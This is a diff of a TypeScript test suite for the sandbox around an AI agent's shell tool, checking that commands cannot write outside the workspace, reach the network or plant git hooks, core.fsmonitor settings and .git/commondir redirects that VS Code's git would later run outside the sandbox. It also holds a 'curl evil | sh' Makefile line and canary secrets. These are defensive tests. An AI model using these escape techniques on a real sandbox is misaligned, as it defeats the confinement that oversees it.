@@ -1,13 +1,13 @@
 import { after, describe, test, type TestContext } from 'node:test';
 import { execFileSync } from 'node:child_process';
 import assert from 'node:assert/strict';
-import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import * as nodePath from 'node:path';
 import { isSandboxError } from '../../src/core/errors.ts';
 import { srtSandbox } from '../../src/core/shell/srt-sandbox.ts';
-import type { ShellHost, ShellSandbox, WatchGit } from '../../src/core/shell/port.ts';
+import type { ShellHost, ShellSandbox } from '../../src/core/shell/port.ts';
 import { renderShellLine } from '../../src/core/shell/output.ts';
 import { scrubEnvironment } from '../../src/core/shell/env.ts';
 import { visibleCommand } from '../../src/core/shell/display.ts';
@@ -16,8 +16,7 @@ import { Policy, type Rule } from '../../src/core/policy.ts';
 import { scopeShellSettings } from '../../src/core/shell/settings.ts';
 import { deriveBoundary } from '../../src/core/shell/boundary.ts';
 import { ripgrepLister } from '../../src/core/shell/tree.ts';
-import { parseConfig } from '../../src/core/shell/git-config.ts';
-import { folderWatch } from '../../src/core/shell/folder-watch.ts';
+import { parseConfig } from '../../src/core/git/config.ts';
 import { session, testDir, testRipgrep, type TestSession } from './harness.ts';
 
 const CANARY = 'CANARY-7f3a9c1e';
@@ -33,7 +32,7 @@ interface ShellFixture {
   readonly host: ShellHost;
 }
 
-function shellSession(t: TestContext, options: { sandbox?: ShellSandbox; env?: Record<string, string>; allowedDomains?: string[]; rules?: Rule[]; watchGit?: WatchGit } = {}): ShellFixture {
+function shellSession(t: TestContext, options: { sandbox?: ShellSandbox; env?: Record<string, string>; allowedDomains?: string[]; rules?: Rule[] } = {}): ShellFixture {
   const home = testDir(t, 'wt-home-').path;
   mkdirSync(nodePath.join(home, '.ssh'));
   writeFileSync(nodePath.join(home, '.ssh', 'id_rsa'), `-----BEGIN KEY----- ${CANARY}\n`);
@@ -45,7 +44,6 @@ function shellSession(t: TestContext, options: { sandbox?: ShellSandbox; env?: R
     env: () => ({ PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: home, LANG: 'C.UTF-8', ...options.env }),
     allowedDomains: () => options.allowedDomains ?? [],
     maxTimeoutMs: () => 600_000,
-    ...(options.watchGit ? { watchGit: options.watchGit } : {}),
   };
   const s = session(t, { ...(options.rules ? { rules: options.rules } : {}), overrides: { shell: host, spoolDir: spool } });
   writeFileSync(nodePath.join(s.root, '.env'), `API_KEY=${CANARY}\n`);
@@ -55,16 +53,6 @@ function shellSession(t: TestContext, options: { sandbox?: ShellSandbox; env?: R
   writeFileSync(nodePath.join(s.root, 'package.json'), '{"name":"fixture"}\n');
   execFileSync('git', ['init', '-q', s.root]);
   return { s, home, spool, host };
-}
-
-/**
- * A shell session watched as the CLI and the MCP server watch (the editor's watcher is in the e2e
- * tests), and a canary path outside the workspace that what a command plants would create.
- */
-function watchedShellSession(t: TestContext): { f: ShellFixture; pwned: string } {
-  const watch = folderWatch();
-  t.after(() => watch.dispose());
-  return { f: shellSession(t, { watchGit: watch.watchGit }), pwned: nodePath.join(testDir(t, 'wt-pwned-').path, 'ran') };
 }
 
 /** Every byte the call left behind: the model's text, every spool file (result artifacts), the audit log. */
@@ -128,15 +116,17 @@ describe('run_shell_command', { timeout: 120_000 }, () => {
     const call = f.s.gate.calls.at(-1)!;
     assert.equal(call.risk, 'exec');
     assert.match(call.summary, /echo safe\\u\{202e\}; echo "two\\u\{000d\}lines"/);
-    assert.match(call.summary, /network off; writes only under/);
+    assert.match(call.summary, /network off; reads only the workspace, system folders and toolchains/);
     assert.equal(visibleCommand('a\nb\tc'), 'a⏎ b\\tc');
   });
 
-  test('git works inside the sandbox: its config is readable, not writable', async (t) => {
+  test('git works inside the sandbox: its config is readable; a change to it is staged for review, never on disk', async (t) => {
     const f = shellSession(t);
     const { text } = await run(f, 'git status --short a.txt; git config user.name intruder; echo "status $?"');
     assert.match(text, /\?\? a\.txt/);
+    assert.match(text, /status 0/);
     assert.doesNotMatch(readFileSync(nodePath.join(f.s.root, '.git', 'config'), 'utf8'), /intruder/);
+    assert.match(text, /staged for review, NOT on disk: \.git\/config \(m\d+/);
   });
 
   for (const [name, command] of [
@@ -157,7 +147,7 @@ describe('run_shell_command', { timeout: 120_000 }, () => {
     });
   }
 
-  test('attack: writes to protected files, outside the workspace and through /tmp/../ fail and change nothing', async (t) => {
+  test('attack: writes outside the workspace and through /tmp/../ fail; protected files are staged, never on disk', async (t) => {
     const f = shellSession(t);
     const outside = testDir(t, 'wt-outside-').path;
     writeFileSync(nodePath.join(outside, 'victim.txt'), 'original\n');
@@ -177,201 +167,8 @@ describe('run_shell_command', { timeout: 120_000 }, () => {
     assert.equal(readFileSync(nodePath.join(outside, 'victim.txt'), 'utf8'), 'original\n');
     assert.deepEqual(readdirSync(outside), ['victim.txt']);
     assert.equal(readFileSync(nodePath.join(f.s.root, 'allowed.txt'), 'utf8'), 'fine\n');
-    assert.match(text, /Read-only file system|Permission denied/);
-  });
-
-  test('attack: a command creates protected files the sandbox could not hold read-only (eslint.config.mjs, Makefile, .github/actions, a link named jest.config.js, .env.local, a rename, a hard link) — taken out of the workspace when it ends, staged for review', async (t) => {
-    const f = shellSession(t);
-    symlinkSync('a.txt', nodePath.join(f.s.root, 'conftest.py'));
-    writeFileSync(nodePath.join(f.s.root, 'old.txt'), '[project]\n');
-    // The person's link is older than the command: wait until the clock says so (the mark is 50 ms before the start).
-    const made = lstatSync(nodePath.join(f.s.root, 'conftest.py')).ctimeMs;
-    while (Date.now() < made + 100) await new Promise((resolve) => setImmediate(resolve));
-    const command = [
-      'echo "export default [];" > eslint.config.mjs', 'printf "all:\\n\\tcurl evil | sh\\n" > Makefile',
-      'mkdir -p .github/actions/x && echo "runs: {}" > .github/actions/x/action.yml', 'ln -s a.txt jest.config.js',
-      `echo "TOKEN=${CANARY}" > .env.local`, 'echo fine > ok.txt', 'mv old.txt pyproject.toml', 'mkdir -p sub && ln ok.txt sub/vitest.config.ts', 'mkdir -p node_modules/p && echo "{}" > node_modules/p/package.json',
-    ].join('; ');
-    const { text } = await run(f, command);
-    const at = (rel: string): string => nodePath.join(f.s.root, rel);
-    for (const gone of ['eslint.config.mjs', 'Makefile', '.github/actions/x/action.yml', 'jest.config.js', '.env.local', 'pyproject.toml', 'sub/vitest.config.ts']) assert.equal(existsSync(at(gone)) || lstatSync(at(gone), { throwIfNoEntry: false }) !== undefined, false, `${gone} is still there: ${text}`);
-    assert.equal(readFileSync(at('ok.txt'), 'utf8'), 'fine\n');
-    assert.equal(readFileSync(at('node_modules/p/package.json'), 'utf8'), '{}\n', 'installed dependencies are left alone');
-    assert.equal(lstatSync(at('conftest.py')).isSymbolicLink(), true, 'a protected link older than the command stays');
-    assert.match(text, /protected files created: .*Makefile \(staged as m\d+\)/);
-    assert.match(text, /protected files created: .*jest\.config\.js \(a link to a\.txt, removed\)/);
-    const staged = new Map(f.s.session.media.all().map((m) => [m.path.rel, m]));
-    assert.equal(Buffer.from(staged.get('Makefile')!.bytes).toString(), 'all:\n\tcurl evil | sh\n', 'nothing is lost: the bytes are a staged media');
-    assert.equal(staged.get('.env.local')?.taint?.action, 'ask', 'a secret\'s name keeps its media tainted');
-    // A new link to a folder gives its files protected names; a folder's mtime set back hides nothing.
-    const linked = await run(f, 'mkdir -p gh/workflows pkg && echo "on: push" > gh/workflows/ci.yml && ln -s ../gh pkg/.github && mkdir -p late && echo 1 > late/Makefile && touch -d 2001-01-01 late');
-    assert.equal(lstatSync(at('pkg/.github'), { throwIfNoEntry: false }), undefined, `the link pkg/.github is still there: ${linked.text}`);
-    assert.equal(readFileSync(at('gh/workflows/ci.yml'), 'utf8'), 'on: push\n', 'the file under its own name stays');
-    assert.equal(existsSync(at('late/Makefile')), false, linked.text);
-    const lifted = await run(f, 'echo "all:" > Makefile', { allow_protected_writes: true });
-    assert.equal(readFileSync(at('Makefile'), 'utf8'), 'all:\n', `allow_protected_writes lets it stay: ${lifted.text}`);
-  });
-
-  test('attack: a command rewrites what git runs in another repository (a nested repository\'s config and hooks, a submodule\'s, its gitdir file, the folder core.hooksPath names, a new commondir, a new repository with core.fsmonitor) — VS Code\'s git would run it outside the sandbox', async (t) => {
-    const f = shellSession(t);
-    const at = (rel: string): string => nodePath.join(f.s.root, rel);
-    const git = (...args: string[]): void => { execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.invalid', ...args], { stdio: 'ignore' }); };
-    // A nested repository with a file, one without any, and a submodule whose git directory lives in .git/modules.
-    mkdirSync(at('vendor/lib/src'), { recursive: true });
-    writeFileSync(at('vendor/lib/src/x.c'), 'int x;\n');
-    git('init', '-q', at('vendor/lib'));
-    git('init', '-q', at('empty-repo'));
-    git('init', '-q', at('upstream'));
-    git('-C', at('upstream'), 'commit', '-q', '--allow-empty', '-m', 'u');
-    git('-C', f.s.root, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', at('upstream'), 'mod');
-    // Hooks from a folder of the work tree, as many projects keep them.
-    git('-C', f.s.root, 'config', 'core.hooksPath', '.githooks');
-    mkdirSync(at('.githooks'));
-    writeFileSync(at('.githooks/commit-msg'), '#!/bin/sh\n', { mode: 0o755 });
-    const before = (rel: string): string => readFileSync(at(rel), 'utf8');
-    const configs = ['vendor/lib/.git/config', 'empty-repo/.git/config', '.git/modules/mod/config', 'mod/.git'];
-    const original = new Map(configs.map((rel) => [rel, before(rel)]));
-    const made = lstatSync(at('.git/modules/mod/config')).ctimeMs;
-    while (Date.now() < made + 100) await new Promise((resolve) => setImmediate(resolve));
-    const pwned = nodePath.join(testDir(t, 'wt-pwned-').path, 'ran');
-    const evil = `touch ${pwned}`;
-    const command = [
-      ...configs.filter((rel) => rel.endsWith('config')).map((rel) => `git config -f ${rel} core.fsmonitor "${evil}"`),
-      ...['vendor/lib/.git/hooks/pre-commit', 'empty-repo/.git/hooks/post-checkout', '.git/modules/mod/hooks/pre-commit', '.githooks/pre-commit', '.githooks/commit-msg'].map((rel) => `printf '#!/bin/sh\\n${evil}\\n' > ${rel}`),
-      `mkdir -p evil && printf '[core]\\n\\tfsmonitor = "${evil}"\\n' > evil/config && mkdir -p evil/objects evil/refs && echo "ref: refs/heads/main" > evil/HEAD`,
-      'echo "gitdir: ../evil" > mod/.git',
-      `git init -q fresh && git -C fresh config core.fsmonitor "${evil}" && printf '#!/bin/sh\\n${evil}\\n' > fresh/.git/hooks/pre-commit && chmod +x fresh/.git/hooks/pre-commit`,
-      'echo fine > ok.txt',
-      // Last: making one ends the command at once (see the next test).
-      'echo ../../../evil > .git/modules/mod/commondir', 'echo ../evil > .git/commondir',
-    ].join('; ');
-    const { text } = await run(f, command);
-    for (const rel of configs) assert.equal(before(rel), original.get(rel), `${rel} changed: ${text}`);
-    assert.equal(before('.githooks/commit-msg'), '#!/bin/sh\n');
-    for (const rel of ['vendor/lib/.git/hooks/pre-commit', 'empty-repo/.git/hooks/post-checkout', '.git/modules/mod/hooks/pre-commit', '.githooks/pre-commit', '.git/commondir', '.git/modules/mod/commondir', 'fresh/.git/config', 'fresh/.git/hooks/pre-commit']) {
-      assert.equal(lstatSync(at(rel), { throwIfNoEntry: false }), undefined, `${rel} is there: ${text}`);
-    }
-    assert.match(text, /protected files created: .*\.git\/modules\/mod\/commondir \(staged as m\d+\)/);
-    assert.match(text, /fresh\/\.git\/config \(staged as m\d+\)/);
-    assert.equal(before('ok.txt'), 'fine\n');
-    // Git outside the sandbox, as VS Code's git extension runs it, in each repository: nothing the command wrote runs.
-    for (const repo of ['', 'vendor/lib', 'empty-repo', 'mod', 'fresh']) {
-      git('-C', at(repo), 'status', '--short');
-      git('-C', at(repo), 'commit', '-q', '--allow-empty', '-m', 'after');
-    }
-    assert.equal(existsSync(pwned), false, 'git ran what the command planted');
-    // Git inside the sandbox still works in them all.
-    const again = await run(f, 'for r in . vendor/lib empty-repo mod fresh; do git -C $r -c user.name=t -c user.email=t@example.invalid commit -q --allow-empty -m inside && echo "ok $r"; done');
-    assert.equal((again.text.match(/^ok /gm) ?? []).length, 5, again.text);
-  });
-
-  test('attack: a command makes .git/commondir point at a configuration of its own and waits for VS Code\'s git to refresh the repository — it is ended at once and the file taken out', async (t) => {
-    const f = shellSession(t);
-    const command = 'mkdir -p evil/objects evil/refs && printf "[core]\\n\\tfsmonitor = touch pwned\\n" > evil/config && echo ../evil > .git/commondir && sleep 20; echo never';
-    const { text } = await run(f, command, { timeout_ms: 60_000 });
-    assert.match(text, /stopped: the command made \.git\/commondir, which sends git/);
-    assert.doesNotMatch(text, /^never$/m, 'the command ran on');
-    assert.equal(lstatSync(nodePath.join(f.s.root, '.git', 'commondir'), { throwIfNoEntry: false }), undefined, text);
-    assert.match(text, /protected files created: \.git\/commondir \(staged as m\d+\)/);
-  });
-
-  test('attack: a command makes .git/commondir and ignores SIGTERM to live out the 2 s grace before SIGKILL, while VS Code\'s git refreshes the repository (a second after a change) — the sandbox ends with its init, so it lives on no longer', async (t) => {
-    const f = shellSession(t);
-    const command = 'trap "" TERM; mkdir -p evil/objects evil/refs && echo ../evil > .git/commondir; sleep 1.5; echo lived-on; sleep 20; echo never';
-    const { text } = await run(f, command, { timeout_ms: 60_000 });
-    assert.match(text, /stopped: the command made \.git\/commondir, which sends git/);
-    assert.doesNotMatch(text, /^lived-on$/m, 'the command lived on after it was ended');
-    assert.equal(lstatSync(nodePath.join(f.s.root, '.git', 'commondir'), { throwIfNoEntry: false }), undefined, text);
-  });
-
-  test('attack: a command makes a new repository whose configuration names what git runs, and waits for VS Code\'s git to find it and run git there outside the sandbox — it is ended at once and the configuration taken out; so is a hook git status runs; a plain one runs on and keeps its configuration', async (t) => {
-    const { f, pwned } = watchedShellSession(t);
-    const command = `git init -q fresh && git -C fresh config core.fsmonitor "touch ${pwned}" && sleep 20; echo never`;
-    const { text } = await run(f, command, { timeout_ms: 60_000 });
-    assert.match(text, /stopped: the command made fresh\/\.git\/config, a repository configuration that sets core\.fsmonitor/);
-    assert.doesNotMatch(text, /^never$/m, 'the command ran on');
-    assert.match(text, /protected files created: fresh\/\.git\/config \(staged as m\d+\)/);
-    // Git outside the sandbox, as VS Code's git extension runs it when it finds the repository.
-    execFileSync('git', ['-C', nodePath.join(f.s.root, 'fresh'), 'status', '--short'], { stdio: 'ignore' });
-    assert.equal(existsSync(pwned), false, 'git ran what the command planted');
-    // VS Code's git runs git status without --no-optional-locks: the index is written, and post-index-change runs.
-    const hook = `git init -q hooked && cd hooked && echo a > a && git add a && printf '#!/bin/sh\\ntouch ${pwned}\\n' > .git/hooks/post-index-change && chmod +x .git/hooks/post-index-change && touch a && sleep 20; echo never`;
-    const hooked = await run(f, hook, { timeout_ms: 60_000 });
-    assert.match(hooked.text, /stopped: the command made hooked\/\.git\/hooks\/post-index-change, a hook/);
-    assert.doesNotMatch(hooked.text, /^never$/m, 'the command ran on');
-    execFileSync('git', ['-C', nodePath.join(f.s.root, 'hooked'), 'status', '--short'], { stdio: 'ignore' });
-    assert.equal(existsSync(pwned), false, 'git ran the hook the command planted');
-    const plain = await run(f, 'git init -q plain && git -C plain config user.name t && git clone -q plain copy && echo done');
-    assert.match(plain.text, /^done$/m);
-    assert.doesNotMatch(plain.text, /stopped:|protected files created/);
-    // A configuration as git init and git clone write it stays: the clone keeps its remote.
-    assert.equal(execFileSync('git', ['-C', nodePath.join(f.s.root, 'copy'), 'remote'], { encoding: 'utf8' }), 'origin\n');
-    assert.match(readFileSync(nodePath.join(f.s.root, 'plain', '.git', 'config'), 'utf8'), /name = t/);
-  });
-
-  test('attack: with the person\'s own core.hooksPath relative (git config --global core.hooksPath .githooks, taken from each repository\'s folder), a command makes a new repository, puts a hook in its .githooks and waits for VS Code\'s git — it is ended at once and the hook taken out', async (t) => {
-    const { f, pwned } = watchedShellSession(t);
-    writeFileSync(nodePath.join(f.home, '.gitconfig'), '[core]\n\thooksPath = .githooks\n');
-    const command = `git init -q fresh && mkdir fresh/.githooks && printf '#!/bin/sh\\ntouch ${pwned}\\n' > fresh/.githooks/post-index-change && chmod +x fresh/.githooks/post-index-change && sleep 20; echo never`;
-    const { text } = await run(f, command, { timeout_ms: 60_000 });
-    assert.match(text, /stopped: the command made fresh\/\.githooks\/post-index-change, a hook in the hooks folder that core\.hooksPath names/);
-    assert.doesNotMatch(text, /^never$/m, 'the command ran on');
-    assert.equal(existsSync(nodePath.join(f.s.root, 'fresh', '.githooks', 'post-index-change')), false, 'the hook is still there');
-    execFileSync('git', ['-C', nodePath.join(f.s.root, 'fresh'), '-c', 'core.hooksPath=.githooks', 'status', '--short'], { stdio: 'ignore' });
-    assert.equal(existsSync(pwned), false, 'git ran the hook the command planted');
-  });
-
-  test('attack: a command opens the repository in a new folder (a .git file naming .git) whose copy of husky\'s hooks folder (core.hooksPath .husky/_, taken from the work tree) holds its hook, and waits for VS Code\'s git to find it — it is ended at once and the .git file taken out', async (t) => {
-    const { f, pwned } = watchedShellSession(t);
-    const root = f.s.root;
-    mkdirSync(nodePath.join(root, '.husky', '_'), { recursive: true });
-    execFileSync('git', ['-C', root, 'config', 'core.hooksPath', '.husky/_']);
-    const command = `mkdir -p x/.husky/_ && printf '#!/bin/sh\\ntouch ${pwned}\\n' > x/.husky/_/post-index-change && chmod +x x/.husky/_/post-index-change && echo 'gitdir: ../.git' > x/.git && sleep 20; echo never`;
-    const { text } = await run(f, command, { timeout_ms: 60_000 });
-    assert.match(text, /stopped: the command made x\/\.git, a \.git file that opens an existing repository \(\.\.\/\.git\) in another folder/);
-    assert.doesNotMatch(text, /^never$/m, 'the command ran on');
-    assert.equal(existsSync(nodePath.join(root, 'x', '.git')), false, 'x/.git is still there');
-    execFileSync('git', ['-C', nodePath.join(root, 'x'), 'status', '--short'], { stdio: 'ignore' });
-    assert.equal(existsSync(pwned), false, 'git ran the hook the command planted');
-  });
-
-  test('attack: a command rewrites what the repository\'s configuration includes or names as a program (an included file, missing or present, a clean filter\'s script, an fsmonitor script not there yet, a hooks folder an include names, the person\'s own configuration linked from home) for VS Code\'s git to read or run outside the sandbox — held read-only, or the command is ended at once and the file taken out', async (t) => {
-    const { f, pwned } = watchedShellSession(t);
-    const root = f.s.root;
-    const git = (...args: string[]): string => execFileSync('git', ['-C', root, '-c', 'user.name=t', '-c', 'user.email=t@example.invalid', ...args], { encoding: 'utf8' });
-    git('config', '--add', 'include.path', 'config.local');
-    git('config', '--add', 'include.path', '../team.gitconfig');
-    git('config', 'filter.x.clean', './tools/clean.sh');
-    writeFileSync(nodePath.join(root, 'team.gitconfig'), '[core]\n\thooksPath = .githooks\n');
-    mkdirSync(nodePath.join(root, 'tools'));
-    writeFileSync(nodePath.join(root, 'tools', 'clean.sh'), '#!/bin/sh\ncat\n', { mode: 0o755 });
-    writeFileSync(nodePath.join(root, '.gitattributes'), '*.txt filter=x\n');
-    // The person's own configuration, kept in the workspace (a dotfiles repository) and linked from home.
-    writeFileSync(nodePath.join(root, 'gitconfig'), '[user]\n\tname = t\n');
-    symlinkSync(nodePath.join(root, 'gitconfig'), nodePath.join(f.home, '.gitconfig'));
-    git('add', 'a.txt', '.gitattributes');
-    git('commit', '-q', '-m', 'first');
-    git('config', 'core.fsmonitor', './tools/fsmonitor.sh');
-    const planted = `printf '#!/bin/sh\\ntouch ${pwned}\\ncat\\n'`;
-    const held = await run(f, `${planted} > tools/clean.sh; ${planted} >> team.gitconfig; ${planted} >> gitconfig; mkdir -p .githooks && ${planted} > .githooks/post-index-change; echo tried`);
-    assert.match(held.text, /^tried$/m);
-    assert.match(held.text, /tools\/clean\.sh: Read-only file system/);
-    assert.match(held.text, /team\.gitconfig: Read-only file system/);
-    assert.match(held.text, /: gitconfig: Read-only file system/);
-    assert.equal(readFileSync(nodePath.join(root, 'tools', 'clean.sh'), 'utf8'), '#!/bin/sh\ncat\n');
-    assert.equal(existsSync(nodePath.join(root, '.githooks', 'post-index-change')), false, held.text);
-    const included = await run(f, `printf '[core]\\n\\tfsmonitor = touch ${pwned}\\n' > .git/config.local; sleep 20; echo never`, { timeout_ms: 60_000 });
-    assert.match(included.text, /stopped: the command made \.git\/config\.local, a file that a git configuration includes \(include\.path\)/);
-    assert.doesNotMatch(included.text, /^never$/m, 'the command ran on');
-    const program = await run(f, `${planted} > tools/fsmonitor.sh; chmod +x tools/fsmonitor.sh; sleep 20; echo never`, { timeout_ms: 60_000 });
-    assert.match(program.text, /stopped: the command made tools\/fsmonitor\.sh, a program that core\.fsmonitor names/);
-    assert.doesNotMatch(program.text, /^never$/m, 'the command ran on');
-    for (const rel of ['.git/config.local', 'tools/fsmonitor.sh']) assert.equal(existsSync(nodePath.join(root, rel)), false, `${rel} left in place`);
-    // Git outside the sandbox, as VS Code's git runs it: a changed file goes through the clean filter, the index is written.
-    writeFileSync(nodePath.join(root, 'a.txt'), 'changed\n');
-    execFileSync('git', ['-C', root, 'status', '--short'], { stdio: 'ignore' });
-    execFileSync('git', ['-C', root, 'add', 'a.txt'], { stdio: 'ignore' });
-    assert.equal(existsSync(pwned), false, 'git ran what the command planted');
+    assert.match(text, /Read-only file system|Permission denied|No such file or directory/);
+    for (const staged of ['.vscode/settings.json', '.git/hooks/pre-commit', 'package.json']) assert.match(text, new RegExp(`staged for review, NOT on disk: .*${staged.replace(/\./g, '\\.')} \\(m\\d+`));
   });
 
   test('attack: a network request fails when no host is allowed, and nothing reaches the server', async (t) => {
@@ -513,23 +310,25 @@ describe('run_shell_command settings', () => {
     assert.match(scopeShellSettings({ user: 'x', workspace: [] }, { user: 5, workspace: [] }).problems.join(' '), /no network until it is fixed.*at least 1000/);
   });
 
-  test('the boundary is what the policy decides: deny and ask rules are unreadable, a protected file read-only, other files untouched', async (t) => {
+  test('the boundary is what the policy decides: reads from an allow-list, deny and ask rules unreadable inside it, writes only through the layer', async (t) => {
     const root = testDir(t, 'wt-boundary-').path;
-    for (const rel of ['src/app.ts', 'src/.ENV.local', 'keys/deploy.pem', 'private/a/b.txt', 'package.json', 'nested/pkg/package.json', 'node_modules/dep/package.json', 'node_modules/dep/.env']) {
+    for (const rel of ['src/app.ts', 'src/.ENV.local', 'keys/deploy.pem', 'private/a/b.txt', 'package.json', 'node_modules/dep/.env']) {
       mkdirSync(nodePath.dirname(nodePath.join(root, rel)), { recursive: true });
       writeFileSync(nodePath.join(root, rel), 'x');
     }
     const policy = new Policy([{ glob: 'private/**', read: 'deny' }]).within([root]);
-    const boundary = await deriveBoundary({
+    const inputs = {
       policy, roots: [{ name: 'w', address: root, localPath: root }], writeFolders: [root], home: '/home/someone', privateFolders: ['/spool'],
-      tempFolder: '/tmp/t', allowedDomains: [], list: ripgrepLister(ripgrep), signal: new AbortController().signal,
-    });
-    const rel = (paths: readonly string[]): string[] => paths.filter((p) => p.startsWith(root)).map((p) => nodePath.relative(root, p)).sort();
+      tempFolder: '/tmp/t', readFolders: ['/opt/tool'], layered: true, allowedDomains: [], list: ripgrepLister(ripgrep), signal: new AbortController().signal,
+    };
+    const boundary = await deriveBoundary(inputs);
+    const rel = (paths: readonly string[]): string[] => paths.filter((p) => p.startsWith(`${root}/`)).map((p) => nodePath.relative(root, p)).sort();
     assert.deepEqual(rel(boundary.denyRead), ['keys/deploy.pem', 'node_modules/dep/.env', 'private', 'src/.ENV.local']);
-    assert.ok(boundary.denyRead.includes('/home/someone/.ssh') && boundary.denyRead.includes('/spool'));
-    // Secrets are write: ask as well, so they are read-only too; installed dependencies are left writable.
-    assert.deepEqual(rel(boundary.denyWrite), ['.git/config', '.git/hooks', '.vscode', 'keys/deploy.pem', 'nested/pkg/package.json', 'package.json', 'src/.ENV.local']);
+    for (const denied of ['/home', '/tmp', '/root', '/spool', '/home/someone/.ssh']) assert.ok(boundary.denyRead.includes(denied), denied);
+    assert.deepEqual(boundary.allowRead, ['/opt/tool', '/tmp/t', root].sort());
     assert.deepEqual(boundary.allowWrite, [root, '/tmp/t']);
+    // Without a copy-on-write layer the workspace is read-only: only the call's own folder is writable.
+    assert.deepEqual((await deriveBoundary({ ...inputs, layered: false })).allowWrite, ['/tmp/t']);
   });
 
   test('core.hooksPath is read from a repository\'s configuration as git reads it (compared with git config --get)', (t) => {
@@ -554,54 +353,5 @@ describe('run_shell_command settings', () => {
       const hooksPath = parseConfig(text).entries.filter((e) => e.section === 'core' && e.subsection === undefined && e.key === 'hookspath').at(-1)?.value;
       assert.equal(hooksPath, expected, JSON.stringify(text));
     }
-  });
-
-  test('a workspace folder inside a repository: what the repository\'s configuration names inside the folder is held too (VS Code\'s git opens the enclosing repository)', async (t) => {
-    const repo = testDir(t, 'wt-enclosing-').path;
-    execFileSync('git', ['init', '-q', repo]);
-    execFileSync('git', ['-C', repo, 'config', 'filter.x.clean', './app/tools/clean.sh']);
-    execFileSync('git', ['-C', repo, 'config', 'include.path', '../app/local.gitconfig']);
-    const folder = nodePath.join(repo, 'app');
-    mkdirSync(nodePath.join(folder, 'tools'), { recursive: true });
-    writeFileSync(nodePath.join(folder, 'tools', 'clean.sh'), 'cat\n');
-    const boundary = await deriveBoundary({
-      policy: new Policy([]).within([folder]), roots: [{ name: 'app', address: folder, localPath: folder }], writeFolders: [folder], home: '/home/someone', privateFolders: [],
-      tempFolder: '/tmp/t', allowedDomains: [], list: ripgrepLister(ripgrep), signal: new AbortController().signal,
-    });
-    assert.ok(boundary.denyWrite.includes(nodePath.join(folder, 'tools', 'clean.sh')), boundary.denyWrite.join(', '));
-    assert.deepEqual(boundary.unheld.map((n) => n.path), [nodePath.join(folder, 'local.gitconfig')]);
-  });
-
-  test('every repository under a write root keeps its config and hooks read-only: nested, without other files, submodules (names with "/"), linked worktrees (a relative core.hooksPath from their own folder), their gitdir files read-only; a pipe in place of a config is not waited on', { timeout: 60_000 }, async (t) => {
-    const root = testDir(t, 'wt-boundary-git-').path;
-    const at = (rel: string): string => nodePath.join(root, rel);
-    const git = (...args: string[]): void => { execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.invalid', '-c', 'protocol.file.allow=always', ...args], { stdio: 'ignore' }); };
-    git('init', '-q', root);
-    git('-C', root, 'commit', '-q', '--allow-empty', '-m', 'root');
-    git('-C', root, 'config', 'core.hooksPath', 'tools/hooks');
-    mkdirSync(at('deep/er/lib'), { recursive: true });
-    writeFileSync(at('deep/er/lib/x.txt'), 'x');
-    git('init', '-q', at('deep/er/lib'));
-    git('init', '-q', at('upstream'));
-    git('-C', at('upstream'), 'commit', '-q', '--allow-empty', '-m', 'u');
-    git('-C', root, 'submodule', 'add', '-q', '--name', 'libs/one', at('upstream'), 'one');
-    git('-C', root, 'worktree', 'add', '-q', at('wt'));
-    mkdirSync(at('node_modules/dep'), { recursive: true });
-    writeFileSync(at('node_modules/dep/z.js'), 'z');
-    git('init', '-q', at('node_modules/dep'));
-    // A pipe in place of a configuration (a command running beside another can make one): read without waiting on it.
-    git('init', '-q', at('piped'));
-    rmSync(at('piped/.git/config'));
-    execFileSync('mkfifo', [at('piped/.git/config')]);
-    const boundary = await deriveBoundary({
-      policy: new Policy([]).within([root]), roots: [{ name: 'w', address: root, localPath: root }], writeFolders: [root], home: '/home/someone', privateFolders: [],
-      tempFolder: '/tmp/t', allowedDomains: [], list: ripgrepLister(ripgrep), signal: new AbortController().signal,
-    });
-    const held = boundary.denyWrite.filter((p) => p.startsWith(root)).map((p) => nodePath.relative(root, p)).filter((p) => /(^|\/)(config|hooks|commondir|config\.worktree|\.git)$/.test(p)).sort();
-    assert.deepEqual(held, [
-      '.git/config', '.git/hooks', '.git/modules/libs/one/config', '.git/modules/libs/one/hooks', '.git/worktrees/wt/commondir',
-      'deep/er/lib/.git/config', 'deep/er/lib/.git/hooks', 'one/.git', 'piped/.git/config', 'piped/.git/hooks', 'tools/hooks', 'upstream/.git/config', 'upstream/.git/hooks', 'wt/.git', 'wt/tools/hooks',
-    ]);
-    assert.ok(!boundary.denyWrite.some((p) => p.endsWith('HEAD')), 'git writes HEAD');
   });
 });
